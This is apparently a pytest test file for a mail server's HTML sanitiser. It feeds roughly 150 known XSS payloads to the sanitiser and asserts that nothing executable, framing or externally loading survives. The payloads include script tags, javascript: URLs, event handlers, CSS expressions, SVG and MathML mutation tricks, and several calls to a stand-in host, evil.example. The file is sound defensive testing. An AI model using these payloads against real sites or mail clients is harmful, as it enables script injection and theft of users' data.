"""What is left of HTML that means harm: nothing that runs, submits, frames, imports or loads but images.

The attacks are those of the published lists (OWASP's filter evasion sheet, html5sec, DOMPurify's and others'
fixtures), each kind in a form of its own.
"""

from __future__ import annotations

import html.parser
import random
import re
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from holdfast.functions.jmap.sanitising import ATTRIBUTES, STYLES, TAGS, sanitised
from holdfast.model.limits import JMAP_HTML_DEPTH

ATTACKS = {
    # OWASP: scripts, and every way to write them
    "script": "<script>alert(1)</script>",
    "script, another case": "<ScRiPt >alert(1)</sCrIpT >",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "script without an end": "<script src=http://evil.example/x.js?<b>",
    "script in script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script, slash instead of a blank": "<script/src='http://evil.example/x.js'></script>",
    "script, bracket too many": "<<script>alert(1)//<</script>",
    "script after a title": "</title><script>alert(1)</script>",
    "script after a textarea": "<textarea></textarea><script>alert(1)</script>",
    "script in a comment that ends early": "<!--><script>alert(1)</script>-->",
    "script in a conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "script in a quoted end": '<script a=">" src="http://evil.example/x.js"></script>',
    "script by NUL": "<scr\0ipt>alert(1)</scr\0ipt>",
    "script by a half-open tag": "<img src=x onerror=alert(1)//",
    "image with javascript": "<img src=\"javascript:alert(1)\">",
    "image, no quotes": "<img src=javascript:alert(1)>",
    "image, grave accents": "<img src=`javascript:alert(\"1'\")`>",
    "image, another case": "<img src=JaVaScRiPt:alert(1)>",
    "image, entities": "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "image, entities without semicolons": "<img src=&#0000106&#0000097&#0000118&#0000097script:alert(1)>",
    "image, hexadecimal": "<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
    "image, tab inside": "<img src=\"jav\tascript:alert(1)\">",
    "image, encoded tab": "<img src=\"jav&#x09;ascript:alert(1)\">",
    "image, line end inside": "<img src=\"jav&#x0A;ascript:alert(1)\">",
    "image, control characters before": "<img src=\" &#14; javascript:alert(1)\">",
    "image, two sources": "<img src=x src=javascript:alert(1)>",
    "image, low source": "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "image that fails": "<img src=x onerror=alert(1)>",
    "image that fails, encoded": "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097script:alert(1)\">",  # noqa: E501
    "image, handler after a slash": "<img/src=x/onerror=alert(1)>",
    "image, handler after odd letters": "<img onmouseover!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "image, broken quotes": "<img \"\"\"><script>alert(1)</script>\"\\>",
    "body that loads": "<body onload=alert(1)>text",
    "body with a picture": "<body background=\"javascript:alert(1)\">text",
    "link": "<a href=\"javascript:alert(1)\">x</a>",
    "link, vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "link, data": "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "link, relative": "<a href=//evil.example/>x</a><a href=/jmap/api>y</a>",
    "link, wide letters": "<a href='\uff4aavascript:alert(1)'>x</a>",
    "link, entity for the colon": "<a href=javascript&colon;alert(1)>x</a>",
    "link, new line by name": "<a href='java&NewLine;script:alert(1)'>x</a>",
    "link that sends a ping": "<a href=http://a.example ping=http://evil.example/>x</a>",
    "input that is a picture": "<input type=image src=javascript:alert(1)>",
    "input that takes the focus": "<input onfocus=alert(1) autofocus>",
    "background sound": "<bgsound src=javascript:alert(1)>",
    "line break with a macro": "<br size=\"&{alert(1)}\">",
    "style sheet": "<link rel=stylesheet href=javascript:alert(1)>",
    "style sheet from elsewhere": "<link rel=stylesheet href=http://evil.example/x.css>",
    "style, import": "<style>@import'http://evil.example/x.css';</style>",
    "style, binding": "<style>body{-moz-binding:url('http://evil.example/x.xml#x')}</style>",
    "style attribute, expression": "<div style='width: expression(alert(1))'>x</div>",
    "style attribute, expression in pieces": "<div style='xss:expr/*x*/ession(alert(1))'>x</div>",
    "style attribute, escaped": "<div style='color:\\65\\78pression(alert(1))'>x</div>",
    "style attribute, picture": "<div style='background-image:url(javascript:alert(1))'>x</div>",
    "style attribute, background": "<div style='background:#fff url(http://evil.example/t.gif)'>x</div>",
    "style attribute, escaped url": "<div style='background:\\75rl(http://evil.example/t.gif)'>x</div>",
    "style attribute, image set": "<div style='background:image-set(\"http://evil.example/t\" 1x)'>x</div>",
    "style attribute, behaviour": "<div style='behavior:url(http://evil.example/x.htc)'>x</div>",
    "style attribute, over all": "<div style='position:fixed;top:0;left:0;width:100%;z-index:9'>x</div>",
    "style attribute, list": "<li style='list-style-image:url(javascript:alert(1))'>x",
    "style attribute, variable": "<div style='--x:url(http://evil.example/);color:var(--x)'>x</div>",
    "style attribute that ends itself": "<div style='color:red\"><img src=x onerror=alert(1)>'>x</div>",
    "refresh": "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "refresh, data": "<meta http-equiv=refresh content=\"0;url=data:text/html,x\">",
    "cookie": "<meta http-equiv=Set-Cookie content=\"a=b\">",
    "charset": "<head><meta http-equiv=content-type content='text/html; charset=utf-7'></head>+ADw-script+AD4-",  # noqa: E501
    "base": "<base href=\"javascript:alert(1);//\"><base href=http://evil.example/ target=_top>",
    "frame": "<iframe src=javascript:alert(1)></iframe>",
    "frame with its own text": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "frame, handler": "<iframe src=# onmouseover=alert(1)></iframe>",
    "frame set": "<frameset><frame src=javascript:alert(1)></frameset>",
    "table": "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "object": "<object type=text/x-scriptlet data=http://evil.example/x.html></object>",
    "object with a class": "<object classid=clsid:ae24><param name=url value=javascript:alert(1)></object>",
    "embed": "<embed src=data:image/svg+xml;base64,PHN2Zz4= type=image/svg+xml allowscriptaccess=always>",
    "applet": "<applet code=x.class codebase=http://evil.example/></applet>",
    "layer": "<layer src=http://evil.example/x.html></layer>",
    "xml": "<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml><span datasrc=#x datafld=b>",
    "server side": "<!--#exec cmd=\"/bin/echo '<script'\"--><? echo('<script>') ?>",
    # html5sec: elements and attributes of later HTML
    "form": "<form action=http://evil.example/><input name=password type=password><button>go</button></form>",
    "form by an attribute": "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "key generator": "<keygen autofocus onfocus=alert(1)>",
    "select": "<select autofocus onfocus=alert(1)><option>x</select>",
    "video": "<video src=x onerror=alert(1) poster=javascript:alert(1)><source onerror=alert(1)></video>",
    "audio": "<audio src=http://evil.example/a.mp3 autoplay onplay=alert(1)>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "marquee": "<marquee onstart=alert(1) behavior=alternate>x</marquee>",
    "menu": "<x contextmenu=m><menu type=context id=m onshow=alert(1)></menu></x>",
    "dialog": "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "popover": "<button popovertarget=x>y</button><div popover id=x onbeforetoggle=alert(1)>z</div>",
    "animation": "<div style='animation:x 1s' onanimationstart=alert(1)>x</div>",
    "pointer": "<p onpointerrawupdate=alert(1) onwheel=alert(2) onauxclick=alert(3)>x</p>",
    "drag": "<div draggable=true ondragstart=\"event.dataTransfer.setData('a','b')\">x</div>",
    "edited": "<div contenteditable onbeforeinput=alert(1)>x</div>",
    "source set": "<img srcset='javascript:alert(1) 1x' sizes=1px><picture><source srcset=http://evil.example/>",
    "image map": "<map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m src=cid:a>",
    "manifest": "<html manifest=http://evil.example/x.appcache>x",
    "slot": "<template shadowrootmode=open><script>alert(1)</script><slot></slot></template>",
    "portal": "<portal src=javascript:alert(1)></portal><fencedframe src=http://evil.example/>",
    "names that hide the page's own": "<img name=getElementById><a id=body name=cookie>x</a>",
    "speculation": "<script type=speculationrules>{\"prefetch\":[]}</script><link rel=preload href=http://evil.example/>",
    # SVG and MathML, and what changes its meaning when it is read twice
    "svg that loads": "<svg/onload=alert(1)>",
    "svg, script": "<svg><script>alert(1)</script></svg>",
    "svg, script by entities": "<svg><script>&#97;lert(1)</script></svg>",
    "svg, link": "<svg><a xlink:href=javascript:alert(1)><text x=9 y=9>x</text></a></svg>",
    "svg, animated link": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "svg, use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "svg, foreign": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "svg, image": "<svg><image href=x onerror=alert(1)></svg>",
    "svg, style within": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "svg, title within": "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "svg, CDATA": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "svg, desc and noembed": "<svg><desc><noembed></noembed><img src=x onerror=alert(1)></desc></svg>",
    "math": "<math href=javascript:alert(1)>x</math><math><maction actiontype=statusline xlink:href=javascript:x>y",  # noqa: E501
    "math, mglyph": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",  # noqa: E501
    "math, form twice": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "math, annotation": "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",  # noqa: E501
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "noscript, style": "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "comment in a style": "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "comment that ends by a bang": "<!-- --!><img src=x onerror=alert(1)>-->",
    "attribute that holds an end": "<p title='</p><img src=x onerror=alert(1)>'>x",
    "textarea twice": "<textarea><textarea></textarea><img src=x onerror=alert(1)>",
    "select and template": "<select><template><img src=x onerror=alert(1)></template></select>",
    "xmp": "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "plaintext": "<p><plaintext><img src=x onerror=alert(1)>",
    "listing": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "table that moves what is in it": "<table><a href=javascript:alert(1)><tr><td></a><img src=x onerror=alert(1)>",  # noqa: E501
    "namespaces": "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "processing instruction": "<?xml-stylesheet href=\"javascript:alert(1)\"?><p>x",
    "doctype": "<!DOCTYPE x [<!ENTITY y SYSTEM 'http://evil.example/'>]><p>&y;",
    "nested quotations": "<q cite=javascript:alert(1)>x</q><blockquote cite=http://evil.example/>y</blockquote>",
    "picture in an address": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "picture by blob": "<img src=blob:http://a.example/1><img src=file:///etc/passwd><img src=filesystem:x>",
    "picture on another path": "<img src=mailto:a@example.org><img src=//evil.example/x><img src=/jmap/api>",
    "bell of a telephone": "<a href='tel:+49;javascript:alert(1)'>x</a>",
}  # fmt: skip

_ALLOWED = {**{tag: ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) for tag in TAGS}}
_ALLOWED["a"] = _ALLOWED["a"] | {"rel", "target"}


class Judge(html.parser.HTMLParser):
    """Reads what was let through, and knows nothing of how."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _ALLOWED:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            text = value or ""
            if name not in _ALLOWED.get(tag, ()):
                self.wrong.append(f"{tag} {name}")
            elif name == "href" and not re.match(r"\s*(https?|mailto|tel):", text, re.I):
                self.wrong.append(f"href={text}")
            elif name == "src" and not re.match(r"\s*(https?|cid):", text, re.I):
                self.wrong.append(f"src={text}")
            elif name == "style":
                self._style(text)

    def _style(self, text: str) -> None:
        for declaration in filter(None, text.split(";")):
            name, _, value = declaration.partition(":")
            loads = re.sub(r"(rgba?|hsla?)\([^()]*\)", "", value)
            if name.strip() not in STYLES or re.search(r"[(\\@<>]|/\*", loads):
                self.wrong.append(f"style {declaration}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}>")


def harm_in(source: str) -> list[str]:
    judge = Judge()
    judge.feed(source)
    judge.close()
    return judge.wrong


@pytest.mark.parametrize("attack", ATTACKS)
def test_jmapd_15_of_an_attack_nothing_is_left_that_could_harm(attack: str) -> None:
    cleaned = sanitised(f"before {ATTACKS[attack]} after")
    assert harm_in(cleaned) == []
    assert sanitised(cleaned) == cleaned, "read twice it is another"
    assert cleaned.startswith("before")


def test_attacks_within_each_other_do_no_harm_either() -> None:
    chance = random.Random(15)
    everything = list(ATTACKS.values())
    for _ in range(400):
        parts = chance.sample(everything, 3)
        at = chance.randrange(len(parts[0]) + 1)
        source = (
            chance.choice(["", "<table>", "<div title='", "<svg>", "<!--", "<b><i>"])
            + parts[0][:at]
            + parts[1]
            + parts[0][at:]
            + parts[2]
        )
        assert harm_in(sanitised(source)) == [], source


_PIECES = st.sampled_from(
    [
        *"<>\"'=/ -!?;:()\\\0&",
        "<a ",
        "href",
        "style=",
        "<!--",
        "-->",
        "script",
        "svg",
        "math",
        "javascript:",
        "onerror=",
        "url(",
        "]]>",
        "&#",
        "x",
    ]
)


@given(st.lists(_PIECES, max_size=60).map("".join))
@example("<a href='x")
@settings(deadline=None, max_examples=300)
@pytest.mark.slow
def test_no_text_makes_harm_of_itself(source: str) -> None:
    cleaned = sanitised(source)
    assert harm_in(cleaned) == []
    assert sanitised(cleaned) == cleaned


def test_what_mail_is_made_of_stays() -> None:
    source = (
        '<p style="color:#333;font-family:Arial;margin:0 0 1em;background:rgb(1, 2, 3)" dir="ltr">Hi <b>Ann</b></p>'  # noqa: E501
        '<table width="600" cellpadding="0" bgcolor="#fff"><tbody><tr><td colspan="2" align="center" valign="top">x</td></tr></tbody></table>'  # noqa: E501
        '<img src="cid:logo@x" alt="Logo" width="10"><img src="https://example.org/a.png?b=1&amp;c=2">'
        '<blockquote type="cite">quoted</blockquote><font color="red" size="2">old</font><ul><li>a</li></ul>'
    )
    assert sanitised(source) == source
    assert sanitised('<a href="https://example.org/?a=1&amp;b=2">x</a>') == (
        '<a href="https://example.org/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    )
    assert sanitised('<a href="mailto:a@example.org?subject=b">x</a>').startswith(
        '<a href="mailto:a@example.org?subject=b"'
    )
    assert sanitised("a < b & c > d") == "a &lt; b &amp; c &gt; d"
    assert sanitised("<p>words <unknown>in it</unknown></p>") == "<p>words in it</p>"


def test_the_words_stay_where_reading_it_as_html_would_take_too_long() -> None:
    deep = "<div>" * (JMAP_HTML_DEPTH + 1) + "words"
    assert sanitised(deep).strip("<pre>/ ").strip() == "words"
    assert harm_in(sanitised(deep + "<script>alert(1)</script>&lt;img src=x onerror=alert(1)&gt;")) == []


@pytest.mark.slow
def test_no_text_of_a_message_takes_long() -> None:
    """Each would take a reader of HTML minutes, were it read whole."""
    attacks = (
        "<div>" * 100_000,
        "<b><p>" * 100_000,
        "".join(f"<div><b x={n}></div>" for n in range(50_000)),
        "".join(f"<p><font color={n}>y" for n in range(50_000)),
        "&" * 1_000_000,
        "<a " + " ".join(f"a{n}=1" for n in range(100_000)) + ">",
        "<" * 1_000_000,
        "<!--" * 250_000,
        "<table>" * 100_000,
    )
    began = time.perf_counter()
    for each in attacks:
        sanitised(each)
    assert time.perf_counter() - began < 30


def test_quotes_and_signatures_are_found_again_by_their_classes_and_no_other_class_stays() -> None:
    html_in = '<div class="signature x">Anna</div><div class="x">b</div><blockquote class=gmail_quote>q'
    kept = '<div class="signature">Anna</div><div>b</div><blockquote class="gmail_quote">q</blockquote>'
    assert sanitised(html_in) == kept
    assert sanitised('<p class="signature">c</p>') == "<p>c</p>"
